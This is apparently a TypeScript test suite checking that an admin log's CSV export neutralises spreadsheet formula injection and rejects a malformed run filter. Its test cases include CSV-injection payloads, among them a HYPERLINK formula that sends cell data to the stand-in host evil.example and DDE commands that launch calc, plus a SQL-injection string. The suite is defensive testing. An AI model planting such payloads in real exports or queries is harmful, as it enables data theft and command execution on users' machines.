// Integration log rows whose text would run as a formula in a spreadsheet (CSV injection), exported through
// /log.csv by a logged-in admin. Each row is written by the log's own writer under a run of its own and
// exported filtered by that run: a cell starting with = + - @, a tab or a carriage return comes out with a
// leading quote; any other text comes out exactly; the export writes nothing.
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { logRow } from '../../../middleware/log/catalogue.ts';
import { writeLog } from '../../../middleware/log/repository.ts';
import { runsRepository } from '../../../middleware/sync/runs.ts';
import { assertUnchanged, snapshot, type CaseGroup, type NamedCase } from './catalogue.ts';
import { openConsoleWorld, type ConsoleWorld } from './console-world.ts';

type Column = 'message' | 'suggestion' | 'details';

export interface CsvCase extends NamedCase {
  /** The log row's text (or, for `query`, the export's filter). */
  input: { column: Column; value: string | Record<string, unknown> } | { query: string };
  expect: { cell: string } | { refused: number; message: RegExp };
}

const message = (value: string) => ({ column: 'message' as const, value });
const neutralised = (value: string) => ({ cell: `'${value}` });
const exact = (value: string) => ({ cell: value });

export const CSV_CASES: readonly CsvCase[] = [
  { name: 'cell starting with = (HYPERLINK)', input: message('=HYPERLINK("http://evil.example/?d="&A1,"Click")'), expect: neutralised('=HYPERLINK("http://evil.example/?d="&A1,"Click")') },
  { name: 'cell starting with = (DDE command)', input: message("=cmd|' /C calc'!A0"), expect: neutralised("=cmd|' /C calc'!A0") },
  { name: 'cell starting with +', input: message('+SUM(1+1)*cmd|"/C calc"!A0'), expect: neutralised('+SUM(1+1)*cmd|"/C calc"!A0') },
  { name: 'cell starting with - (in the suggestion)', input: { column: 'suggestion', value: '-2+3+cmd|"/C calc"!A0' }, expect: neutralised('-2+3+cmd|"/C calc"!A0') },
  { name: 'cell starting with @', input: message('@SUM(A1:A9)'), expect: neutralised('@SUM(A1:A9)') },
  { name: 'cell starting with a tab', input: message('\t=1+1'), expect: neutralised('\t=1+1') },
  { name: 'cell starting with a carriage return', input: message('\r=1+1'), expect: neutralised('\r=1+1') },
  { name: 'quotes, commas and line breaks stay exactly', input: message(`O'Brien, "Quoted" & Co\nsecond line; = not first`), expect: exact(`O'Brien, "Quoted" & Co\nsecond line; = not first`) },
  { name: 'emojis and right-to-left text stay exactly', input: message('شركة 🚀 — Ünïcødé'), expect: exact('شركة 🚀 — Ünïcødé') },
  { name: 'formula text inside the details JSON is not at the start of its cell', input: { column: 'details', value: { name: '=1+1' } }, expect: exact('{"name":"=1+1"}') },
  { name: 'NUL in a message quoted from Salesforce: stored and exported without it', input: message('Acme\u0000 Corp'), expect: exact('Acme Corp') },
  { name: 'export filtered by a malformed run id', input: { query: "run=1' OR '1'='1" }, expect: { refused: 400, message: /run: must match the pattern/ } },
];

async function runCsvCase(world: ConsoleWorld, testCase: CsvCase): Promise<void> {
  const db = world.ui.database.db;
  let query: string;
  if ('query' in testCase.input) query = testCase.input.query;
  else {
    const runId = await runsRepository.start(db, 'accounts_contacts', 'incremental');
    const { column, value } = testCase.input;
    const row = logRow('RUN_FAILED', { job: 'accounts_contacts', reason: 'test' }, { runId, details: column === 'details' ? (value as Record<string, unknown>) : {} });
    await writeLog(db, [{ ...row, ...(column === 'message' ? { message: value as string } : {}), ...(column === 'suggestion' ? { suggestion: value as string } : {}) }]);
    query = `run=${runId}`;
  }
  const before = await snapshot(db, ['integration_log', 'sync_runs']);
  const response = await world.client.get(`/log.csv?${query.replace(/ /g, '%20')}`);
  assertUnchanged(before, await snapshot(db, ['integration_log', 'sync_runs']), testCase.name);
  if ('refused' in testCase.expect) {
    assert.equal(response.statusCode, testCase.expect.refused);
    assert.match(response.body, testCase.expect.message);
    return;
  }
  assert.equal(response.statusCode, 200, response.body);
  assert.match(String(response.headers['content-type']), /^text\/csv; charset=utf-8/);
  const rows = parse(response.body, { columns: true }) as Array<Record<string, string>>;
  assert.equal(rows.length, 1, 'one row for the run');
  assert.equal(rows[0]?.[(testCase.input as { column: Column }).column], testCase.expect.cell);
}

export const csvGroup: CaseGroup<ConsoleWorld, CsvCase> = {
  area: 'CSV export (/log.csv)',
  cases: CSV_CASES,
  open: () => openConsoleWorld({ connected: false }),
  run: runCsvCase,
  app: (world) => world.ui.app,
  close: (world) => world.close(),
};
